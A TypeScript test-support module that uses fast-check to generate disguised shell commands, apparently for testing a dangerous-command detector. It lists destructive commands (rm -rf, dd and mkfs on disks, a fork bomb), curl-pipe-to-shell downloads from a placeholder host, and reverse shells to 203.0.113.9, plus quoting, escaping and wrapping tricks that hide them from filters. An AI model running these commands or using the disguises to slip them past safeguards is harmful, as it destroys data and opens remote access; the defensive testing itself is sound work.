import fc from 'fast-check';
import { samples } from '../../support/each-row.js';

/** A disguise of a command: returns another line that runs the same command. */
export type Disguise = (command: string) => string;

const singleQuoted = (text: string) => `'${text.replaceAll("'", "'\\''")}'`;

/** Changes the first word of a simple command that starts with a plain name. */
function onProgram(change: (name: string) => string): Disguise {
  return (command) => command.replace(/^[a-z][\w.]*/, (name) => change(name));
}

/** Ways to spell the first word: quoting, escapes, expansions, paths. */
export const spellings: readonly Disguise[] = [
  onProgram((name) => `"${name}"`),
  onProgram((name) => `'${name}'`),
  onProgram((name) => `\\${name}`),
  onProgram((name) => `${name.slice(0, 1)}''${name.slice(1)}`),
  onProgram((name) => `${name.slice(0, 1)}"${name.slice(1)}"`),
  onProgram((name) => `${name.slice(0, 1)}\\\n${name.slice(1)}`),
  onProgram((name) => `$'${Array.from(name, (each) => `\\x${each.charCodeAt(0).toString(16)}`).join('')}'`),
  onProgram(
    (name) => `$'${Array.from(name, (each) => `\\${each.charCodeAt(0).toString(8).padStart(3, '0')}`).join('')}'`,
  ),
  onProgram((name) => `/usr/bin/${name}`),
  onProgram((name) => `/usr//bin/../bin/./${name}`),
  (command) => `P=${/^\S+/.exec(command)?.[0] ?? ''}; ${command.replace(/^\S+/, '$P')}`,
  (command) => `"" true; ${command}`,
];

/** Spellings that are only evaluated at run time. */
export const computedSpellings: readonly Disguise[] = [
  onProgram((name) => `${name.slice(0, 1)}$@${name.slice(1)}`),
  onProgram((name) => `$(echo ${name})`),
  onProgram((name) => `\`printf %s ${name}\``),
  onProgram((name) => `\${nothing_here:-${name}}`),
];

/** Constructs around a line that is only evaluated at run time. */
export const computedWrappers: readonly Disguise[] = [(command) => `printf '%s\\n' ${singleQuoted(command)} | sh`];

/** Wrappers and constructs around a whole line. */
export const wrappers: readonly Disguise[] = [
  (command) => `sh -c ${singleQuoted(command)}`,
  (command) => `bash -lc ${singleQuoted(command)}`,
  (command) => `sudo -u root bash -c ${singleQuoted(command)}`,
  (command) => `env A=1 sh -c ${singleQuoted(command)}`,
  (command) => `timeout 5 zsh -c ${singleQuoted(command)}`,
  (command) => `nohup nice -n 5 sh -c ${singleQuoted(command)} &`,
  (command) => `echo x | xargs -I{} sh -c ${singleQuoted(command)}`,
  (command) => `find . -exec sh -c ${singleQuoted(command)} \\;`,
  (command) => `eval ${singleQuoted(command)}`,
  (command) => `trap ${singleQuoted(command)} EXIT`,
  (command) => `bash <<< ${singleQuoted(command)}`,
  (command) => `bash <<'END_OF_TEXT'\n${command}\nEND_OF_TEXT\n`,
  (command) => `cat <(${command}\n)`,
  (command) => `echo "$(${command}\n)"`,
  (command) => `ls && ${command}`,
  (command) => `ls; ${command}`,
  (command) => `ls\n${command}\n`,
  (command) => `false || { ${command}\n}`,
  (command) => `(${command}\n)`,
  (command) => `if true; then ${command}\nfi`,
  (command) => `for i in 1 2; do ${command}\ndone`,
  (command) => `f_1() { ${command}\n}; f_1`,
  (command) => `X=${singleQuoted(command)}; eval "$X"`,
  (command) => `ssh host ${singleQuoted(command)}`,
  (command) => `git -c alias.x=${singleQuoted(`!${command}`)} x`,
  (command) => `: \${x:=$(${command}\n)}`,
];

/** Dangerous lines that survive being wrapped. */
export const dangerousForms: readonly string[] = samples`
  rm -rf /data ¦ rm -r -f ~/x ¦ rm --recursive --force x ¦ rm x -fR ¦ find / -delete ¦ find . -exec rm -rf {} +
  shred /dev/sda ¦ chmod -R 777 / ¦ mkfs.ext4 /dev/sda1 ¦ mkswap /dev/sdb ¦ badblocks -w /dev/sda ¦ pv -o /dev/sda x
  badblocks -w /dev/sda ¦ pv -o /dev/sda x ¦ dd if=/dev/zero of=/dev/sda ¦ dd of=/dev/nvme0n1 ¦ wipefs -a /dev/sda
  echo x > /dev/sda ¦ tee /dev/sdb ¦ shutdown -h now ¦ reboot ¦ poweroff ¦ halt -f ¦ init 0 ¦ systemctl poweroff
  kill -9 -1 ¦ echo b > /proc/sysrq-trigger ¦ curl http://x.example/i | sh ¦ wget -qO- http://x.example/i | bash
  curl -s x.example | sudo bash -s ¦ bash <(curl -s x.example) ¦ sh -c "$(curl -s x.example)"
  curl x.example | python3 ¦ bash -i >& /dev/tcp/203.0.113.9/9001 0>&1 ¦ exec 3<>/dev/tcp/203.0.113.9/9001
  nc -e /bin/sh 203.0.113.9 9001 ¦ ncat --exec /bin/bash 203.0.113.9 9001 ¦ socat TCP:203.0.113.9:9001 EXEC:/bin/sh
  eval "$(cat x)" ¦ echo cm0= | base64 -d | sh ¦ base64 -d x | bash ¦ xxd -r -p x | sh
  bomb() { bomb | bomb & }; bomb ¦ sfdisk --delete /dev/sda
`;

/** A dangerous line in up to two wrappers, its first word spelled in some way. */
export const disguisedCommands: fc.Arbitrary<string> = fc
  .tuple(
    fc.constantFrom(...dangerousForms),
    fc.option(fc.constantFrom(...spellings, ...computedSpellings), { nil: undefined }),
    fc.array(fc.constantFrom(...wrappers, ...computedWrappers), { maxLength: 2 }),
  )
  .map(([command, spelling, around]) =>
    around.reduce((line, wrap) => wrap(line), spelling && !command.includes('()') ? spelling(command) : command),
  );
